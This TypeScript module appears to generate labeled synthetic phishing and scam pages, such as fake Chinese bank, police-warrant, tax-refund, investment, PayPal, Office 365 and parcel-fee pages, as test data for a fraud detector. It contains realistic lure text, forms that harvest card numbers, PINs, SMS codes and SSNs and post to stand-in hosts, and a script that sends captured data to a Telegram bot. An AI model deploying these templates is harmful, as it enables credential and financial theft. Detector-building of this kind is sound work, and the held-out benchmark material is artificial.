/** Phishing and scam pages: fake bank and authority pages, SMS-lure landings, task and investment scams. */
import { list, paragraphs, renderPage } from './html.ts';
import type { Rng } from './rng.ts';
import type { Archetype } from './types.ts';

const BANKS = [
  '中国工商银行',
  '中国建设银行',
  '中国农业银行',
  '中国银行',
  '招商银行',
  '交通银行',
  '中国邮政储蓄银行',
  '浦发银行',
  '中信银行',
];

function phishHost(rng: Rng): string {
  return `${rng.pick(['secure', 'verify', 'login', 'auth', 'service', 'kefu'])}-${rng.word(5)}.${rng.pick(['top', 'xyz', 'cc', 'vip', 'icu'])}.example`;
}

function action(rng: Rng): string {
  return rng.pick([
    `https://${phishHost(rng)}/post.php`,
    `http://${phishHost(rng)}/api/save`,
    'next.php',
    'save.php',
    `//${phishHost(rng)}/ok.php`,
  ]);
}

function field(name: string, label: string, type = 'text'): string {
  return `<div class="row"><label>${label}</label><input type="${type}" name="${name}" placeholder="请输入${label}"></div>`;
}

function tgExfil(rng: Rng): string {
  return `<script>function send(d){fetch("https://api.telegram.org/bot${rng.int(1e9, 9e9)}:AA${rng.word(30)}/sendMessage?chat_id=-${rng.int(1e8, 9e8)}&text="+encodeURIComponent(d))}</script>`;
}

const bank: Archetype = {
  id: 'fake-bank-login',
  label: 'fraud',
  heldOut: false,
  count: 8,
  make(rng) {
    const b = rng.pick(BANKS);
    const fields = [
      field('username', '姓名'),
      field('idcard', '身份证号'),
      field('cardno', '银行卡号'),
      field('phone', '预留手机号'),
      field('pwd', '取款密码', 'password'),
      field('smscode', '短信验证码'),
    ];
    const sections = [
      `<div class="alert">${rng.pick(['您的账户存在异常交易，已被临时冻结', '系统检测到您的网银证书即将过期', '您的账户因安全等级过低将被停用'])}，${rng.pick(['请于24小时内完成身份验证', '请立即验证身份以免影响正常使用', '逾期未处理将永久冻结'])}。</div>`,
      `<form action="${action(rng)}" method="post">${rng.some(fields, rng.int(4, 6)).join('\n')}<button type="submit">${rng.pick(['立即验证', '提交验证', '确认提交', '下一步'])}</button></form>`,
      `<p class="tip">${rng.pick(['为保障您的资金安全，请如实填写', '温馨提示：验证成功后账户将自动解冻', '本页面采用256位SSL加密'])}</p>`,
    ];
    return {
      ext: rng.pick(['html', 'php']),
      content: renderPage(rng, {
        lang: 'zh-CN',
        title: `${b}${rng.pick(['个人网上银行', '安全中心', '身份验证', '手机银行升级'])}`,
        nav: ['首页', '个人网银', '安全中心'],
        sections,
        footer: `${b} 版权所有 客服热线 955xx`,
        ...(rng.chance(0.3) ? { head: tgExfil(rng) } : {}),
      }),
    };
  },
};

const authority: Archetype = {
  id: 'fake-procuratorate',
  label: 'fraud',
  heldOut: false,
  count: 7,
  make(rng) {
    const org = rng.pick([
      '最高人民检察院',
      '中华人民共和国最高人民检察院',
      '公安部刑事侦查局',
      '上海市公安局',
      '最高人民法院',
    ]);
    const caseNo = `${rng.pick(['沪', '京', '粤'])}检${rng.int(2023, 2025)}${rng.int(10000, 99999)}号`;
    const sections = [
      `<h1>${org} ${rng.pick(['案件查询系统', '网上清查平台', '通缉令查询'])}</h1>`,
      `<div class="warrant"><h2>${rng.pick(['通缉令', '冻结管制令', '逮捕令'])}</h2><p>案件编号：${caseNo}</p><p>当事人涉嫌${rng.pick(['洗钱案', '非法出售银行卡案', '特大诈骗洗钱案'])}，现依法对其名下资产进行资金清查。</p></div>`,
      `<p>${rng.pick(['请配合调查，将名下资金转入国家安全账户进行核查，核查完毕后原路退还', '请勿将本案告知任何人，否则按妨碍司法处理', '请立即登记银行卡信息配合资金清查'])}。</p>`,
      `<form action="${action(rng)}" method="post">${field('name', '姓名')}${field('sfz', '身份证号')}${field('bankcard', '银行卡号')}${field('paypwd', '交易密码', 'password')}<button>提交清查</button></form>`,
    ];
    return {
      ext: 'html',
      content: renderPage(rng, {
        lang: 'zh-CN',
        title: `${org} - 案件查询`,
        nav: ['首页', '案件查询', '通缉令', '清查'],
        sections,
        footer: `${org} 版权所有`,
      }),
    };
  },
};

const smsLure: Archetype = {
  id: 'sms-lure-landing',
  label: 'fraud',
  heldOut: true,
  count: 7,
  make(rng) {
    const kind = rng.int(0, 2);
    const [title, alert, fields] =
      kind === 0
        ? [
            'ETC在线认证',
            '您的ETC卡已失效，请立即在线认证，否则将影响高速通行',
            [
              field('name', '车主姓名'),
              field('plate', '车牌号'),
              field('cardno', '绑定银行卡号'),
              field('mobile', '预留手机号'),
              field('code', '短信验证码'),
            ],
          ]
        : kind === 1
          ? [
              `${rng.pick(['中国移动', '中国联通', '中国电信'])}积分兑换`,
              `您的${rng.int(2000, 9000)}积分即将清零，可兑换${rng.int(200, 900)}元现金，请立即兑换`,
              [
                field('cardno', '储蓄卡卡号'),
                field('cvn', '卡背后三位数'),
                field('expire', '有效期'),
                field('mobile', '手机号'),
                field('sms', '动态验证码'),
              ],
            ]
          : [
              '个人所得税退税',
              `您有一笔${rng.int(1000, 9000)}元个税退税待领取，请在24小时内完成申请`,
              [
                field('name', '姓名'),
                field('idno', '身份证号'),
                field('card', '银行卡号'),
                field('pass', '银行卡密码', 'password'),
                field('phone', '手机号'),
              ],
            ];
    const sections = [
      `<div class="notice">${alert}</div>`,
      `<form action="${action(rng)}" method="post">${fields.join('\n')}<button>${rng.pick(['立即兑换', '领取退税', '立即认证', '提交'])}</button></form>`,
    ];
    return {
      ext: rng.pick(['html', 'php']),
      content: renderPage(rng, {
        lang: 'zh-CN',
        title,
        nav: ['首页'],
        sections,
        footer: rng.pick(['国家税务总局', '中国移动通信集团', 'ETC服务中心']),
      }),
    };
  },
};

const tasks: Archetype = {
  id: 'task-rebate-scam',
  label: 'fraud',
  heldOut: false,
  count: 7,
  make(rng) {
    const name = `${rng.pick(['淘', '抖', '京', '拼'])}${rng.pick(['客', '单', '选'])}${rng.pick(['联盟', '帮', '任务平台'])}`;
    const sections = [
      `<h1>${name}</h1><p>${rng.pick(['在家用手机做任务，日赚300-1000元', '刷单返利，佣金当场结算', '点赞关注就能赚钱，轻松日入500'])}</p>`,
      list(
        rng,
        rng.some(
          [
            '新手任务：垫付100返130',
            '连单任务：完成三单一起返还本金和佣金',
            '抢单大厅，派单自动匹配',
            '会员等级越高佣金越高',
            '提现秒到，不收手续费',
            '兼职宝妈学生都能做',
          ],
          4,
        ),
      ),
      `<form action="/api/reg"><input name="phone" placeholder="手机号"><input type="password" name="password" placeholder="登录密码"><input name="invite" placeholder="邀请码"><button>立即注册领取任务</button></form>`,
    ];
    return {
      ext: 'html',
      content: renderPage(rng, {
        lang: 'zh-CN',
        title: `${name} - 兼职任务平台`,
        nav: ['任务大厅', '抢单', '充值', '提现', '我的'],
        sections,
        footer: name,
      }),
    };
  },
};

const invest: Archetype = {
  id: 'fake-investment',
  label: 'fraud',
  heldOut: true,
  count: 6,
  make(rng) {
    const name = `${rng.pick(['环球', '汇盈', '鼎盛', '恒信', 'Coin', 'Star'])}${rng.pick(['金融', '资本', '理财', 'Capital'])}`;
    const plans = [7, 15, 30, 90].map(
      (d) =>
        `<tr><td>${d}天</td><td>日收益${(1 + rng.next() * 3).toFixed(1)}%</td><td>起投${rng.int(1, 10) * 100}USDT</td></tr>`,
    );
    const sections = [
      `<h1>${name}</h1><p>${rng.pick(['稳赚不赔，保本保息', '导师带单，胜率98%', '内幕消息，翻倍不是梦'])}</p>`,
      `<table>${plans.join('')}</table>`,
      paragraphs(
        rng.some(
          [
            '充值USDT即可开始理财，到期本金自动返还',
            '邀请好友再得10%佣金',
            '已有30万会员获得高额回报',
            '提现24小时到账',
          ],
          3,
        ),
      ),
      `<a href="/register">立即投资</a>`,
    ];
    return {
      ext: 'html',
      content: renderPage(rng, {
        lang: 'zh-CN',
        title: `${name} - 高收益理财`,
        nav: ['首页', '理财产品', '充值', '提现', '邀请'],
        sections,
        footer: name,
      }),
    };
  },
};

const paypal: Archetype = {
  id: 'account-phish-en',
  label: 'fraud',
  heldOut: false,
  count: 7,
  make(rng) {
    const brand = rng.pick([
      'PayPal',
      'Apple ID',
      'Netflix',
      'Amazon',
      'Chase',
      'Wells Fargo',
      'Bank of America',
    ]);
    const sections = [
      `<div class="alert">${rng.pick([`Your ${brand} account has been limited.`, `We noticed unusual activity in your ${brand} account.`, `Your ${brand} account has been suspended.`])} ${rng.pick(['Please verify your account within 24 hours.', 'Confirm your identity to restore access.', 'Update your payment information to avoid permanent closure.'])}</div>`,
      `<form action="${action(rng)}" method="post"><input name="email" placeholder="Email"><input type="password" name="password" placeholder="Password"><input name="card_number" placeholder="Card number"><input name="exp" placeholder="Expiration date (MM/YY)"><input name="cvv" placeholder="Security code (CVV)"><input name="ssn" placeholder="SSN"><button>${rng.pick(['Verify Now', 'Continue', 'Confirm'])}</button></form>`,
    ];
    return {
      ext: rng.pick(['html', 'php']),
      content: renderPage(rng, {
        lang: 'en',
        title: `${brand} - ${rng.pick(['Verify your account', 'Account Security', 'Resolution Center'])}`,
        nav: ['Help', 'Security'],
        sections,
        footer: `© ${brand}. All rights reserved.`,
        ...(rng.chance(0.4) ? { head: tgExfil(rng) } : {}),
      }),
    };
  },
};

const office: Archetype = {
  id: 'office365-phish',
  label: 'fraud',
  heldOut: true,
  count: 6,
  make(rng) {
    const sections = [
      `<h1>${rng.pick(['Sign in', 'Microsoft 365', 'Outlook Web App'])}</h1><p>${rng.pick(['Unusual sign-in activity detected. Sign in to continue.', 'Your mailbox is almost full. Verify your account to keep receiving mail.', 'Your password expires today. Confirm your current password to keep it.'])}</p>`,
      `<form action="https://${phishHost(rng)}/owa/auth.php" method="post"><input name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form>`,
      `<p>${rng.pick(['Keep me signed in', 'Can’t access your account?', 'Sign-in options'])}</p>`,
    ];
    return {
      ext: 'html',
      content: renderPage(rng, {
        lang: 'en',
        title: rng.pick(['Sign in to your account', 'Microsoft Office 365 Login', 'Outlook - Verify']),
        nav: [],
        sections,
        footer: '©2025 Microsoft · Terms of use · Privacy & cookies',
      }),
    };
  },
};

const parcel: Archetype = {
  id: 'parcel-fee-phish',
  label: 'fraud',
  heldOut: false,
  count: 6,
  make(rng) {
    const carrier = rng.pick(['DHL', 'USPS', 'FedEx', 'Royal Mail', '顺丰速运', '中国邮政EMS']);
    const zh = /[\u4e00-\u9fff]/.test(carrier);
    const sections = zh
      ? [
          `<div class="alert">您的包裹因地址不详无法派送，请在24小时内支付${rng.int(2, 9)}.${rng.int(10, 99)}元重新派送费</div>`,
          `<form action="${action(rng)}">${field('name', '收件人')}${field('cardno', '银行卡号')}${field('cvv', '安全码')}${field('exp', '有效期')}${field('sms', '短信验证码')}<button>确认支付</button></form>`,
        ]
      : [
          `<div class="alert">Your package is on hold due to an incomplete address. A redelivery fee of $${rng.int(1, 3)}.${rng.int(10, 99)} is required within 24 hours.</div>`,
          `<form action="${action(rng)}"><input name="fullname" placeholder="Full name"><input name="cardnumber" placeholder="Card number"><input name="expiry" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button>Pay and reschedule</button></form>`,
        ];
    return {
      ext: rng.pick(['html', 'php']),
      content: renderPage(rng, {
        lang: zh ? 'zh-CN' : 'en',
        title: zh ? `${carrier} - 包裹派送通知` : `${carrier} - Delivery Notice`,
        nav: [],
        sections,
        footer: carrier,
      }),
    };
  },
};

export const FRAUD: Archetype[] = [bank, authority, smsLure, tasks, invest, paypal, office, parcel];
